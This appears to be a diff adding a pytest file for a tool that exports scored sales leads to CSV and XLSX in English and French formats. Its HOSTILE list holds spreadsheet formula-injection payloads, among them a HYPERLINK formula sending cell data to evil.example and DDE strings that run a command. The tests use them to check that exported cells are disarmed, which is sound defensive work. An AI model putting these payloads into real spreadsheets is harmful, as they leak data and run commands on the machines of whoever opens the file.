@@ -1,0 +1,184 @@
+"""Sheet files: CSV for English and French Excel, XLSX read back with openpyxl, and no cell that a
+spreadsheet could run as a formula, in any format."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+from decimal import Decimal
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from flows.sheet_files import MONEY_FORMAT, PERCENT_FORMAT, write_sheet
+from scoring.sheet import SHEET_COLUMNS, SHEET_HEADERS, build_sheet
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Invoice")', "+cmd|' /C calc'!A0",
+           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+NAMES = [name for name, _ in SHEET_COLUMNS]
+
+
+def _sheet() -> pd.DataFrame:
+    n = len(HOSTILE)
+    scored = pd.DataFrame({
+        "lead_id": [f"L{i}" for i in range(n)],
+        "win_probability": [0.234 - i / 100 for i in range(n)],
+        "grade": ["B"] * n,
+        "expected_value": [Decimal("1234567.89") - i for i in range(n)],
+        "first_name": ["Zoé", None, *(["Ann"] * (n - 2))],
+        "last_name": ["Müller; fils", "Solo", *(["Lee"] * (n - 2))],
+        "company": HOSTILE,
+        "title": ["DSI", None, *HOSTILE[2:]],
+        "email": [f"p{i}@example.fr" for i in range(n)],
+        "phone": ["+33 6 12 34 56 78", *(["01 02"] * (n - 1))],
+        "country": ["FR"] * n,
+        "source": ["web_form"] * n,
+        "reasons_positive": [["Pricing page viewed 4 times"], *([["=1+1"]] * (n - 1))],
+        "reasons_negative": [["Free-mail address"]] * n,
+        "points": [["p1", "p2", "p3"]] * n,
+        "plan": ["Starter"] * n,
+        "seats": [6, *([3] * (n - 1))],
+        "list_price": [Decimal("2088.00")] * n,
+        "suggested_discount": [Decimal("0.125")] * n,
+        "floor_price": [Decimal("1774.80")] * n,
+        "acv": [Decimal("1879.20")] * n,
+        "owner": ["Léa Rousseau", *(["-Evil owner"] * (n - 1))],
+    })
+    sheet = build_sheet(scored)
+    sheet["close_date"] = [date(2026, 11, 9), *([""] * (n - 1))]
+    return sheet
+
+
+def _csv_rows(path, separator: str) -> list[list[str]]:
+    text = path.read_bytes().decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
+
+
+def _widths(page) -> dict[str, float]:
+    """Column widths by sheet column (a <col> element may span adjacent columns)."""
+    width = {}
+    for dimension in page.column_dimensions.values():
+        for index in range(dimension.min, dimension.max + 1):
+            width[NAMES[index - 1]] = dimension.width
+    return width
+
+
+def test_the_english_csv_is_utf8_with_bom_comma_separated_with_decimal_points(tmp_path):
+    path = write_sheet(_sheet(), tmp_path / "s.csv")
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
+    header, first, *_ = _csv_rows(path, ",")
+    assert tuple(header) == SHEET_HEADERS
+    row = dict(zip(NAMES, first, strict=True))
+    assert row["expected_value"] == "1234567.89" and row["acv"] == "1879.20"
+    assert row["win_probability"] == "23.4" and row["discount"] == "12.5"
+    assert row["close_date"] == "2026-11-09"
+    assert row["lead_name"] == "Zoé Müller; fils" and row["owner"] == "Léa Rousseau"
+
+
+def test_the_french_csv_uses_semicolons_decimal_commas_and_day_first_dates(tmp_path):
+    path = write_sheet(_sheet(), tmp_path / "s.csv", "csv", "fr")
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel FR needs the BOM for UTF-8
+    header, first, second, *_ = _csv_rows(path, ";")
+    assert tuple(header) == SHEET_HEADERS
+    row = dict(zip(NAMES, first, strict=True))
+    assert row["expected_value"] == "1234567,89" and row["list_price"] == "2088,00"
+    assert row["win_probability"] == "23,4" and row["discount"] == "12,5"
+    assert row["close_date"] == "09/11/2026"
+    assert row["lead_name"] == "Zoé Müller; fils"  # a ; inside a cell stays in its cell
+    assert row["seats"] == "6" and row["rank"] == "1"
+    assert dict(zip(NAMES, second, strict=True))["win_probability"] == "22,4"
+
+
+def test_the_xlsx_has_a_styled_frozen_header_and_fitted_columns(tmp_path):
+    path = write_sheet(_sheet(), tmp_path / "s.xlsx", "xlsx")
+    page = openpyxl.load_workbook(path).worksheets[0]
+    header = [c.value for c in page[1]]
+    assert tuple(header) == SHEET_HEADERS
+    assert all(c.font.bold for c in page[1])
+    frozen_after = NAMES.index("lead_name") + 1  # the rank to the lead's name stay in view
+    assert page.freeze_panes == f"{openpyxl.utils.get_column_letter(frozen_after + 1)}2"
+    assert page.auto_filter.ref.startswith("A1:")
+    width = _widths(page)
+    assert width["reasons"] == width["talking_points"] == pytest.approx(60, abs=1)
+    assert width["rank"] < width["lead_name"] < width["reasons"]
+    assert width["email"] >= len("p0@example.fr")
+    assert all(w <= 61 for w in width.values())
+
+
+def test_the_xlsx_stores_numbers_with_money_and_percent_formats(tmp_path):
+    path = write_sheet(_sheet(), tmp_path / "s.xlsx", "xlsx", "fr")
+    page = openpyxl.load_workbook(path).worksheets[0]
+    cell = {name: page.cell(row=2, column=i + 1) for i, name in enumerate(NAMES)}
+    assert cell["expected_value"].value == pytest.approx(1234567.89)
+    assert cell["expected_value"].number_format == MONEY_FORMAT == '#,##0.00 "€"'
+    assert cell["acv"].data_type == "n" and cell["acv"].number_format == MONEY_FORMAT
+    assert cell["win_probability"].value == pytest.approx(0.234)  # the fraction, shown as %
+    assert cell["win_probability"].number_format == PERCENT_FORMAT
+    assert cell["discount"].value == pytest.approx(0.125)
+    assert cell["discount"].number_format == PERCENT_FORMAT
+    assert cell["seats"].value == 6 and cell["rank"].value == 1
+    assert cell["close_date"].is_date and cell["close_date"].value.date() == date(2026, 11, 9)
+    assert cell["close_date"].number_format == "dd/mm/yyyy"
+    assert cell["reasons"].alignment.wrap_text and cell["talking_points"].alignment.wrap_text
+    blank = {name: page.cell(row=3, column=i + 1) for i, name in enumerate(NAMES)}
+    assert blank["deal_value"].value is None  # left for the rep, already in euros
+    assert blank["deal_value"].number_format == MONEY_FORMAT
+    outcome_list = page.data_validations.dataValidation[0]
+    assert outcome_list.type == "list" and "won" in outcome_list.formula1
+
+
+@pytest.mark.parametrize("locale", ["en", "fr"])
+def test_no_csv_cell_starts_like_a_formula(tmp_path, locale):
+    separator = {"en": ",", "fr": ";"}[locale]
+    path = write_sheet(_sheet(), tmp_path / "s.csv", "csv", locale)
+    rows = _csv_rows(path, separator)[1:]
+    numbers = {NAMES.index(c) for c in ("rank", "win_probability", "expected_value")}
+    text = [cell for row in rows for j, cell in enumerate(row) if j not in numbers]
+    assert not [c for c in text if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    companies = [row[NAMES.index("company")] for row in rows]
+    assert companies == ["'" + h for h in HOSTILE]  # kept readable, just disarmed
+
+
+def test_no_xlsx_cell_is_a_formula_and_hostile_text_is_quote_prefixed(tmp_path):
+    path = write_sheet(_sheet(), tmp_path / "s.xlsx", "xlsx")
+    page = openpyxl.load_workbook(path).worksheets[0]
+    cells = [c for row in page.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    company = [page.cell(row=r, column=NAMES.index("company") + 1) for r in range(2, 8)]
+    # openpyxl leaves a CR in its XML escape, _x000D_, where Excel shows the character
+    assert [c.value.replace("_x000D_", "\r") for c in company] == HOSTILE
+    assert all(c.quotePrefix and c.data_type == "s" for c in company)
+    owner = page.cell(row=3, column=NAMES.index("owner") + 1)
+    assert owner.value == "-Evil owner" and owner.quotePrefix
+    safe = page.cell(row=2, column=NAMES.index("title") + 1)
+    assert safe.value == "DSI" and not safe.quotePrefix
+
+
+def test_a_sheet_handed_over_without_neutralising_is_still_disarmed(tmp_path):
+    raw = pd.DataFrame({"company": ["=1+1", "ok"], "acv": [Decimal("-5.00"), Decimal("1")],
+                        "reasons": ["@x\nsecond line", "fine"]})
+    csv_path = write_sheet(raw, tmp_path / "raw.csv")
+    assert _csv_rows(csv_path, ",")[1] == ["'=1+1", "-5.00", "'@x\nsecond line"]
+    page = openpyxl.load_workbook(write_sheet(raw, tmp_path / "raw.xlsx", "xlsx")).worksheets[0]
+    assert page["A2"].data_type == "s" and page["A2"].quotePrefix
+    assert page["B2"].value == -5.0 and page["B2"].data_type == "n"  # a number, not a formula
+    assert page["C2"].quotePrefix and page["C2"].alignment.wrap_text
+
+
+def test_an_empty_sheet_still_has_its_header(tmp_path):
+    empty = _sheet().iloc[0:0]
+    assert tuple(_csv_rows(write_sheet(empty, tmp_path / "e.csv"), ",")[0]) == SHEET_HEADERS
+    page = openpyxl.load_workbook(write_sheet(empty, tmp_path / "e.xlsx", "xlsx")).worksheets[0]
+    assert tuple(c.value for c in page[1]) == SHEET_HEADERS and page.max_row == 1
+
+
+def test_a_failed_write_leaves_the_previous_file_untouched(tmp_path):
+    path = write_sheet(_sheet(), tmp_path / "s.csv")
+    before = path.read_bytes()
+    with pytest.raises(ValueError, match="unknown sheet format"):
+        write_sheet(_sheet(), path, "pdf")
+    assert path.read_bytes() == before
+    assert not list(tmp_path.glob("*.partial"))
